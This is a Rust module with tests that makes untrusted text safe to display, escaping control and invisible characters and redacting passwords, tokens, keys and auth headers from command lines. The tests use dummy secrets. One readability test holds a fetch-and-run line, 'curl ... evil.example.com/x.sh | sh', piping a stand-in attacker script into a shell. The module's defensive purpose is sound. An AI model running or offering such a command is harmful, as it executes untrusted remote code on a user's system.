//! Making text of unknown origin fit to be shown: no credentials, no control characters, no endless lines.

use std::sync::LazyLock;

use regex::{Captures, Regex};
use sha2::{Digest, Sha256};

/// What stands in the place of a credential.
pub const REDACTED: &str = "[redacted]";

/// Makes text harmless for terminals and logs: control characters, bidirectional overrides and invisible characters are
/// escaped as in Rust source, and what exceeds `limit` characters is cut, which is announced.
pub fn printable(text: &str, limit: usize) -> String {
    let mut shown = String::with_capacity(text.len().min(limit));
    let mut rest = text.chars();
    for _ in 0..limit {
        let Some(character) = rest.next() else { return shown };
        if is_harmless(character) {
            shown.push(character);
        } else {
            shown.extend(character.escape_default());
        }
    }
    match rest.count() {
        0 => {}
        left => shown = format!("{shown}… ({left} more characters)"),
    }
    shown
}

fn is_harmless(character: char) -> bool {
    let is_invisible = matches!(character,
        '\u{00ad}' | '\u{061c}' | '\u{180e}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{feff}' | '\u{fff9}'..='\u{fffb}' | '\u{e0000}'..='\u{e007f}');
    !character.is_control() && !is_invisible
}

/// Shows a command line: credentials are replaced by [`REDACTED`], each entry is made [`printable`] and cut at `limit`
/// characters.
///
/// Finding credentials in free text is guesswork, so it errs towards hiding: values of options, variables and headers with
/// telling names, passwords in URLs, tokens of known shape, private keys, and long runs of random-looking characters. Of the
/// latter a short hash is shown, so that two findings can still be compared.
pub fn arguments(entries: &[String], limit: usize) -> Vec<String> {
    // What `-a` means depends on the program, and for others its value is worth seeing.
    let is_redis = entries.iter().any(|entry| entry.rsplit('/').next() == Some("redis-cli"));
    let tells = |entry: &String| TELLING_OPTION.is_match(entry) || is_redis && entry == "-a";
    let mut after_telling_option = false;
    let mut after_login = false;
    entries
        .iter()
        .map(|entry| {
            let hidden = std::mem::replace(&mut after_telling_option, tells(entry));
            let login = std::mem::replace(&mut after_login, LOGIN_OPTION.is_match(entry));
            if hidden && !entry.starts_with('-') || login && entry.contains(':') {
                REDACTED.to_owned()
            } else if let Some(name) = WHOLE_ASSIGNMENT.find(entry) {
                // One entry of a command line is one value, whatever characters it has.
                format!("{}{REDACTED}", name.as_str())
            } else if is_attached_password(entry) {
                format!("-p{REDACTED}")
            } else {
                printable(&credentials(entry), limit)
            }
        })
        .collect()
}

/// Shows the command and the arguments of a container, each as [`arguments`] does. They are one command line to whoever runs
/// it: an option at the end of the one may have its value at the beginning of the other.
pub fn command_line(command: &[String], args: &[String], limit: usize) -> (Vec<String>, Vec<String>) {
    let mut shown = arguments(&[command, args].concat(), limit);
    let args = shown.split_off(command.len());
    (shown, args)
}

/// Whether an entry looks like the `-pSECRET` of `mysql`: not a path, a port or an address, and not an option that is a word,
/// such as `-print` or `-parallel=4`.
fn is_attached_password(entry: &str) -> bool {
    let Some(rest) = entry.strip_prefix("-p").filter(|rest| !rest.is_empty()) else { return false };
    let word = rest.split('=').next().unwrap_or_default();
    let is_word = word.bytes().all(|b| b.is_ascii_lowercase() || b == b'-');
    let is_port = rest.trim_start_matches('=').bytes().all(|b| b.is_ascii_digit() || matches!(b, b'.' | b':' | b','));
    !(is_word || is_port || rest.starts_with('/'))
}

/// Replaces whatever looks like a credential in free text.
pub fn credentials(text: &str) -> String {
    let text = PRIVATE_KEY.replace_all(text, REDACTED);
    let text = URL_PASSWORD.replace_all(&text, format!("$scheme{REDACTED}@"));
    let text = HEADER.replace_all(&text, format!("$name{REDACTED}"));
    let text = ASSIGNMENT.replace_all(&text, format!("$name{REDACTED}"));
    let text = SHORT_PASSWORD.replace_all(&text, format!("$option{REDACTED}"));
    let text = KNOWN_TOKEN.replace_all(&text, REDACTED);
    LONG_RUN.replace_all(&text, |found: &Captures<'_>| random_looking(&found[0])).into_owned()
}

fn random_looking(run: &str) -> String {
    let has = |class: fn(&char) -> bool| run.chars().any(|c| class(&c));
    let is_digest = run.len() == 64 && run.bytes().all(|b| b.is_ascii_hexdigit());
    let is_random = has(char::is_ascii_digit)
        && (has(char::is_ascii_uppercase) && has(char::is_ascii_lowercase) || run.len() >= 32);
    if !is_random || is_digest {
        return run.to_owned();
    }
    let hash = hex(&Sha256::digest(run.as_bytes()), 12);
    format!("[redacted: {} characters, sha256 {hash}…]", run.len())
}

/// The first `digits` lower-case hexadecimal digits of some bytes.
pub(crate) fn hex(bytes: &[u8], digits: usize) -> String {
    let nibbles = bytes.iter().flat_map(|byte| [byte >> 4, byte & 0xf]);
    nibbles.filter_map(|nibble| char::from_digit(nibble.into(), 16)).take(digits).collect()
}

/// Compiles a pattern of this file: they are constants, and a test compiles them all.
macro_rules! regex {
    ($pattern:expr) => {
        LazyLock::new(|| {
            #[allow(clippy::expect_used)]
            Regex::new($pattern).expect("the patterns of this file are valid")
        })
    };
}

/// An option whose value stands in the next entry.
static TELLING_OPTION: LazyLock<Regex> = regex!(
    r"(?i)^(--?)?[a-z0-9_.-]*(pass(word|wd|phrase)?|pwd|secret|token|[a-z]+[_-]key|credentials?|auth|bearer)$|^-(p|u|H|w|P|k)$|^--(pw|pin|key)$"
);
/// An entry that is nothing but an option or variable with a telling name, and its value.
static WHOLE_ASSIGNMENT: LazyLock<Regex> =
    regex!(r"(?i)^(--?)?[a-z0-9_.-]*(pass(word|wd|phrase)?|pwd|secret|token|[a-z]+[_-]?key|credentials?)[a-z0-9_.-]*=");
/// An option whose value is a user, with a colon and the password behind it or without.
static LOGIN_OPTION: LazyLock<Regex> = regex!(r"^--(proxy-)?user$");
static PRIVATE_KEY: LazyLock<Regex> =
    regex!(r"(?s)-----BEGIN [A-Z ]*PRIVATE KEY-----.*?(-----END [A-Z ]*PRIVATE KEY-----|$)");
static URL_PASSWORD: LazyLock<Regex> = regex!(r"(?P<scheme>[a-zA-Z][a-zA-Z0-9+.-]*://)[^\s@'\x22]+@");
static HEADER: LazyLock<Regex> = regex!(
    r"(?i)(?P<name>\b(authorization|proxy-authorization|x-[a-z-]*(key|token)|cookie)\s*:\s*|\b(bearer|basic)\s+)[^'\x22\r\n]+"
);
static ASSIGNMENT: LazyLock<Regex> = regex!(
    r#"(?i)(?P<name>[a-z0-9_.-]*(pass(word|wd|phrase)?|pwd|secret|token|[a-z]+[_-]?key|credentials?|auth)[a-z0-9_.-]*["']?\s*[=:]\s*|\b(key|sig|pw|pin)=|--?[a-z0-9_-]*(password|passwd|passphrase|secret|token|[a-z]+[_-]key)\s+|\b[a-z0-9]+(_[a-z0-9]+)*_(password|secret|token|key)\s+)("[^"]*"|'[^']*'|[^\s'"&;|]+)+"#
);
/// `mysql -pSECRET`, `sshpass -pSECRET`, `curl -u user:SECRET`.
static SHORT_PASSWORD: LazyLock<Regex> = regex!(
    r"(?P<option>(^|\s)(mysql(dump|admin)?|mariadb(-dump)?|sshpass|mongo(dump|sh)?|redis-cli)\b[^\n;|&]*?\s-(p|a)\s?|(^|\s)(-u|--(proxy-)?user[\s=])\s*['\x22]?[^\s:=]+:)([^;|&'\x22\n]+['\x22]|[^\s;|&'\x22]+)"
);
static KNOWN_TOKEN: LazyLock<Regex> = regex!(
    r"\b(eyJ[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]+(\.[A-Za-z0-9_-]*)?|gh[pousr]_[A-Za-z0-9]{16,}|github_pat_[A-Za-z0-9_]{16,}|glpat-[A-Za-z0-9_-]{16,}|xox[abposr]-[A-Za-z0-9-]{10,}|(AKIA|ASIA)[0-9A-Z]{16}|AIza[0-9A-Za-z_-]{30,}|sk-[A-Za-z0-9_-]{16,}|npm_[A-Za-z0-9]{20,}|hvs\.[A-Za-z0-9_-]{16,})"
);
static LONG_RUN: LazyLock<Regex> = regex!(r"[A-Za-z0-9+_=]{20,}([/-][A-Za-z0-9+_=]{20,})*");

#[cfg(test)]
mod tests {
    use super::*;

    fn shown(entries: &[&str]) -> String {
        arguments(&entries.iter().map(|e| (*e).to_owned()).collect::<Vec<_>>(), 4096).join(" ")
    }

    #[test]
    fn credentials_are_hidden() {
        let secret = "hunter2-S3cr3t";
        for entries in [
            vec!["--password", "hunter2-S3cr3t"],
            vec!["--password=hunter2-S3cr3t"],
            vec!["-c", "PGPASSWORD=hunter2-S3cr3t pg_dump"],
            vec!["sh", "-c", "export DB_PASS='hunter2-S3cr3t'; run"],
            vec!["sh", "-c", "tool --db-token hunter2-S3cr3t --all"],
            vec!["curl", "-u", "admin:hunter2-S3cr3t", "https://x"],
            vec!["sh", "-c", "curl -u admin:hunter2-S3cr3t https://x"],
            vec!["https://admin:hunter2-S3cr3t@example.com/"],
            vec!["postgres://admin:hunter2-S3cr3t@db/prod?sslmode=off"],
            vec!["-H", "Authorization: Bearer hunter2-S3cr3t"],
            vec!["sh", "-c", "curl -H 'X-Api-Key: hunter2-S3cr3t' https://x"],
            vec!["sh", "-c", "mysqldump -u root -phunter2-S3cr3t prod"],
            vec!["{\"apiKey\": \"hunter2-S3cr3t\"}"],
            vec!["mysqldump", "-uroot", "-phunter2-S3cr3t", "prod"],
            vec!["curl", "--user", "admin:hunter2-S3cr3t", "https://x"],
            vec!["curl", "--proxy-user=admin:hunter2-S3cr3t", "https://x"],
            vec!["curl", "-uadmin:hunter2-S3cr3t", "https://x"],
            vec!["--config", "client_secret: hunter2-S3cr3t"],
            vec!["tool", "--password=a b hunter2-S3cr3t"],
            vec!["sh", "-c", "export PASS='a'\"'\"'hunter2-S3cr3t'; run"],
            vec!["sh", "-c", "curl -u 'u:pa hunter2-S3cr3t' https://x"],
            vec!["s3cmd", "--secret_key", "hunter2-S3cr3t"],
            vec!["aws", "configure", "set", "aws_secret_access_key", "hunter2-S3cr3t"],
            vec!["sh", "-c", "aws configure set aws_secret_access_key hunter2-S3cr3t"],
            vec!["--encryption-key", "hunter2-S3cr3t"],
            vec!["sh", "-c", "export KEY=hunter2-S3cr3t; run"],
            vec!["https://x.example/?a=1&sig=hunter2-S3cr3t"],
            vec!["ldapsearch", "-w", "hunter2-S3cr3t"],
            vec!["ftp://u:p/hunter2-S3cr3t@h"],
            vec!["/usr/bin/redis-cli", "-a", "hunter2-S3cr3t", "ping"],
        ] {
            let text = shown(&entries);
            assert!(!text.contains(secret), "shown: {text}");
            assert!(text.contains(REDACTED), "nothing redacted: {text}");
        }
    }

    #[test]
    fn command_and_arguments_are_one_line() {
        let texts = |entries: &[&str]| entries.iter().map(|e| (*e).to_owned()).collect::<Vec<_>>();
        let (command, args) = command_line(&texts(&["tool", "--password"]), &texts(&["hunter2", "--all"]), 100);
        assert_eq!((command, args), (texts(&["tool", "--password"]), texts(&[REDACTED, "--all"])));
    }

    #[test]
    fn tokens_of_known_or_random_shape_are_hidden() {
        for token in [
            "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc-DEF_123",
            "ghp_abcdefghijklmnopqrstuvwxyz012345",
            "AKIAIOSFODNN7EXAMPLE",
            "xoxb-123456789012-abcdefghij",
            "wJalrXUtnFEMIK7MDENGbPxRfiCYEXAMPLEKEY",
        ] {
            let text = shown(&["run", token]);
            assert!(!text.contains(token), "shown: {text}");
        }
    }

    #[test]
    fn ordinary_commands_stay_readable() {
        for entries in [
            vec!["/usr/bin/pgdump", "--all", "--file=/backup/2024-01-01.sql"],
            vec!["sh", "-c", "curl -s http://evil.example.com/x.sh | sh"],
            vec!["ls", "-a", "/backup"],
            vec!["tool", "-print", "-p5432", "-p8080:80", "-path=/a", "-p/etc/x", "--user", "postgres"],
            vec!["kubectl", "rollout", "restart", "deployment/my-very-long-deployment-name-for-something"],
            vec!["registry.example.com/a@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"],
        ] {
            assert_eq!(shown(&entries), entries.join(" "));
        }
    }

    #[test]
    fn hostile_text_is_made_harmless() {
        assert_eq!(printable("a\u{1b}[31mb\r\n\u{202e}c\u{0}", 100), "a\\u{1b}[31mb\\r\\n\\u{202e}c\\u{0}");
        assert_eq!(printable("aaaaaaaaaa", 4), "aaaa… (6 more characters)");
        assert_eq!(printable("äöü", 3), "äöü");
    }
}
